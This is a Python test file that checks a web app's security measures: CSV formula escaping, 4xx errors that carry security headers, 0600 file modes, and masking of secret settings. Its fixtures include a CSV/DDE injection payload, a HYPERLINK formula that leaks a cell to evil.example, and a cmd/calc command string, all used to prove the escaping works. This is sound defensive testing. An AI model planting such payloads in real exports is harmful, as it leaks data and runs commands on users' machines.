"""Security of what the app serves and writes: CSV formula escaping, validated parameters and errors
with security headers, scorecard snapshots only for closed months, file modes, masked admin-only settings."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, update

from jobshift.cli.main import main
from jobshift.errors import (
    ConfigError,
    ConflictError,
    ForbiddenError,
    InputError,
    InvalidValueError,
    NotFoundError,
    StoreError,
    UsageError,
)
from jobshift.services.admin import settings_file
from jobshift.services.scorecard.scorecard import month_of, shift_month
from jobshift.services.workspace import Workspace, init_workspace
from jobshift.store.quarantine import add_quarantined
from jobshift.store.schema import audit_log, contacts, leads, scorecard_snapshots
from jobshift.utils.csv_safe import escape_formula
from jobshift.utils.timeutil import utcnow
from jobshift.web.app import create_app
from web.conftest import bearer, login

EVIL_COMPANY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
EVIL_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
SECURITY_HEADERS = ("Content-Security-Policy", "X-Frame-Options", "X-Content-Type-Options", "Cache-Control")


def _has_security_headers(r: object) -> bool:
    headers = r.headers  # type: ignore[attr-defined]
    return all(h in headers for h in SECURITY_HEADERS)


# --- 6. CSV exports escape formula prefixes -------------------------------------------------------


def test_escape_formula() -> None:
    assert escape_formula(EVIL_COMPANY) == "'" + EVIL_COMPANY
    assert escape_formula(EVIL_NAME) == "'" + EVIL_NAME
    for s in ("+1 555 0100", "-2+3", "\t=1", "\r=1", "=1"):
        assert escape_formula(s) == "'" + s
    for s in ("", "Acme", "jane@acme.com", "-12.5", "+49", "3", "a=b"):
        assert escape_formula(s) == s


@pytest.fixture
def evil(seeded: Workspace) -> Workspace:
    """CRM data crafted to run as spreadsheet formulas."""
    with seeded.store.begin() as conn:
        conn.execute(update(leads).where(leads.c.id == "l-1").values(company=EVIL_COMPANY))
        conn.execute(update(contacts).where(contacts.c.id == "c-1").values(first_name=EVIL_NAME))
        add_quarantined(
            conn,
            1,
            "contacts",
            [InputError("not an email", column="email", source="contacts.csv", line=11, raw=EVIL_COMPANY)],
        )
    return seeded


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_cli_csv_exports_escape_formulas(evil: Workspace, tmp_path: Path) -> None:
    for name, evil_value in (("leads", EVIL_COMPANY), ("contacts", EVIL_NAME), ("quarantine", EVIL_COMPANY)):
        out = tmp_path / f"{name}.csv"
        assert main(["-w", str(evil.path), "export", name, "--out", str(out)]) == 0
        cells = _cells(out.read_text())
        assert "'" + evil_value in cells and evil_value not in cells, name
    out = tmp_path / "leads.jsonl"  # JSON Lines are data, not a spreadsheet: unchanged
    assert main(["-w", str(evil.path), "export", "leads", "--format", "jsonl", "--out", str(out)]) == 0
    assert "'=HYPERLINK" not in out.read_text()


def test_web_csv_downloads_escape_formulas(client: TestClient, evil: Workspace) -> None:
    login(client, "admin")
    leads_csv = _cells(client.get("/leads.csv").text)
    assert "'" + EVIL_COMPANY in leads_csv and EVIL_COMPANY not in leads_csv
    contacts_csv = _cells(client.get("/contacts.csv").text)
    assert "'" + EVIL_NAME in contacts_csv and EVIL_NAME not in contacts_csv
    quarantine_csv = _cells(client.get("/runs/1/quarantine.csv").text)
    assert "'" + EVIL_COMPANY in quarantine_csv and EVIL_COMPANY not in quarantine_csv
    assert "11" in quarantine_csv  # numbers stay numbers


# --- 7. validated parameters; every error carries the security headers ---------------------------


def test_absurd_page_and_month_are_4xx_with_headers(client: TestClient, seeded: Workspace) -> None:
    from jobshift.services.admin.auth import create_token

    login(client, "admin")
    for path in (
        "/leads?page=99999999999999999999",
        "/signals?page=1000001",
        "/leads?per_page=100000",
        "/scorecard?month=9999-12",
        "/scorecard?month=0000-01",
        "/scorecard?month=2026-13",
        "/leads/does-not-exist",
        "/runs/99999999999999999999/quarantine.csv",
        "/leads?q=%00",
        "/leads/%00",
    ):
        r = client.get(path)
        assert r.status_code in (400, 404, 422), path
        assert _has_security_headers(r), path
    token = create_token(seeded, "admin")
    for path in (
        "/api/leads?page=99999999999999999999",
        "/api/scorecard?month=9999-12",
        "/api/runs/99999999999999999999",
        "/api/leads?q=a%00b",
    ):
        r = client.get(path, headers=bearer(token))
        assert r.status_code == 422 and _has_security_headers(r), path
    assert client.get("/leads.csv?page=99999999999999999999").status_code == 200  # CSV ignores page


def test_a_nul_in_the_user_name_is_a_failed_sign_in(seeded: Workspace) -> None:
    from jobshift.services.admin import login_guard

    assert login_guard.sign_in(seeded, "adm\x00in", "whatever-pw", "127.0.0.1").user is None


@pytest.fixture
def failing_client(seeded: Workspace) -> Iterator[TestClient]:
    """The app plus routes that raise each kind of error."""
    app = create_app(seeded.path)
    errors: dict[str, Exception] = {
        "notfound": NotFoundError("no such thing"),
        "forbidden": ForbiddenError("not for you"),
        "conflict": ConflictError("already there"),
        "invalid": InvalidValueError("not a date"),
        "skip": InputError("bad row", column="email", source="x.csv", line=3),
        "usage": UsageError("bad parameter"),
        "config": ConfigError("bad value", key_path="web.x"),
        "store": StoreError("db password=hunter2 unreachable"),
        "crash": RuntimeError("secret internals"),
    }

    def raiser_of(exc: Exception) -> Callable[[], None]:
        def raiser() -> None:
            raise exc

        return raiser

    for name, exc in errors.items():
        app.add_api_route(f"/boom/{name}", raiser_of(exc))
        app.add_api_route(f"/api/boom/{name}", raiser_of(exc))
    with TestClient(app, raise_server_exceptions=False) as c:
        yield c
    app.state.ws.close()


def test_domain_errors_map_to_4xx_and_every_error_has_the_headers(failing_client: TestClient) -> None:
    expected = {
        "notfound": 404,
        "forbidden": 403,
        "conflict": 409,
        "invalid": 422,
        "skip": 422,
        "usage": 400,
        "config": 400,
        "store": 500,
        "crash": 500,
    }
    for name, status in expected.items():
        for prefix in ("", "/api"):
            r = failing_client.get(f"{prefix}/boom/{name}")
            assert r.status_code == status, (prefix, name)
            assert _has_security_headers(r), (prefix, name)
            assert "hunter2" not in r.text and "secret internals" not in r.text
            if prefix:  # the API: always {"detail": message}
                assert set(r.json()) == {"detail"}, name
            elif status < 500:  # a page: the error page with the message
                assert 'data-testid="error-message"' in r.text, name
    assert failing_client.get("/api/boom/usage").json() == {"detail": "bad parameter"}
    assert failing_client.get("/api/boom/skip").json() == {"detail": "email: bad row"}
    assert "Something went wrong" in failing_client.get("/api/boom/store").json()["detail"]
    assert _has_security_headers(failing_client.get("/nope"))


# --- 8. scorecard snapshots only for closed months with data ---------------------------------------


def _snapshot_months(ws: Workspace) -> list[str]:
    with ws.store.connect() as conn:
        return list(
            conn.execute(select(scorecard_snapshots.c.month).order_by(scorecard_snapshots.c.month)).scalars()
        )


def test_viewing_a_scorecard_snapshots_only_closed_months_with_data(
    client: TestClient, seeded: Workspace
) -> None:
    login(client, "admin")
    current = month_of(utcnow())
    for month in ("1900-01", "2020-01", current):  # absurd, before any data, running month
        assert client.get("/scorecard", params={"month": month}).status_code == 200, month
    assert client.get("/scorecard", params={"month": shift_month(current, 1)}).status_code == 422
    assert _snapshot_months(seeded) == []
    assert client.get("/scorecard", params={"month": "2026-03"}).status_code == 200  # the seed's month
    assert _snapshot_months(seeded) == ["2026-03"]


# --- 10. files created 0600 --------------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_workspace_files_are_created_0600_whatever_the_umask(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("JOBSHIFT_DATABASE_URL", raising=False)
    monkeypatch.delenv("JOBSHIFT_SECRET_KEY", raising=False)
    old = os.umask(0)
    try:
        ws, _ = init_workspace(tmp_path / "ws")
        ws.close()
        app = create_app(tmp_path / "ws")  # generates the session secret
        app.state.ws.close()
        assert main(["-w", str(tmp_path / "ws"), "export", "runs", "--out", str(tmp_path / "runs.csv")]) == 0
    finally:
        os.umask(old)
    for name in ("jobshift.db", "jobshift.toml", ".jobshift-secret"):
        assert _mode(tmp_path / "ws" / name) == 0o600, name
    assert _mode(tmp_path / "runs.csv") == 0o600


# --- 11. settings: admins only, secrets masked -------------------------------------------------------


def test_settings_mask_secrets_and_keep_them_on_save(client: TestClient, seeded: Workspace) -> None:
    url = "postgresql+psycopg://jobshift:s3cr3t-pw@db.internal:5432/jobshift"
    text = f'# test\ndatabase_url = "{url}"\n\n[program]\ntracking_cap = 10\n'
    (seeded.path / "jobshift.toml").write_text(text)
    masked = settings_file.mask_secrets(text)
    assert "s3cr3t-pw" not in masked and "jobshift:********@db.internal" in masked
    csrf = login(client, "admin")
    page = client.get("/settings").text
    assert "s3cr3t-pw" not in page and "********@db.internal" in page
    edited = masked.replace("tracking_cap = 10", "tracking_cap = 11")
    saved = client.post("/settings", data={"text": edited, "csrf_token": csrf})
    assert saved.status_code == 200 and "Saved." in saved.text and "s3cr3t-pw" not in saved.text
    on_disk = (seeded.path / "jobshift.toml").read_text()
    assert url in on_disk and "tracking_cap = 11" in on_disk
    with seeded.store.connect() as conn:
        entry = conn.execute(select(audit_log.c.before, audit_log.c.after)).one()
    assert "s3cr3t-pw" not in str(entry)
    wrong = edited.replace("db.internal", "db.elsewhere")  # the mask cannot move to another host
    r = client.post("/settings", data={"text": wrong, "csrf_token": csrf})
    assert r.status_code == 422 and "type the real value" in r.text and "s3cr3t-pw" not in r.text


def test_mask_secret_keys() -> None:
    text = (
        '[notifications]\nsmtp_username = "bob"\nsmtp_password = "pw-1"\n'
        '[x]\napi_key = \'k-2\'  # c\nslack_token = ""\nclient_secret = "cs-3"\n'
    )
    masked = settings_file.mask_secrets(text)
    assert "pw-1" not in masked and "k-2" not in masked and "cs-3" not in masked
    assert 'smtp_username = "bob"' in masked and 'slack_token = ""' in masked
    assert settings_file.unmask_secrets(masked, text) == text
    with pytest.raises(ConfigError, match="secret mask"):
        settings_file.unmask_secrets(masked, "")
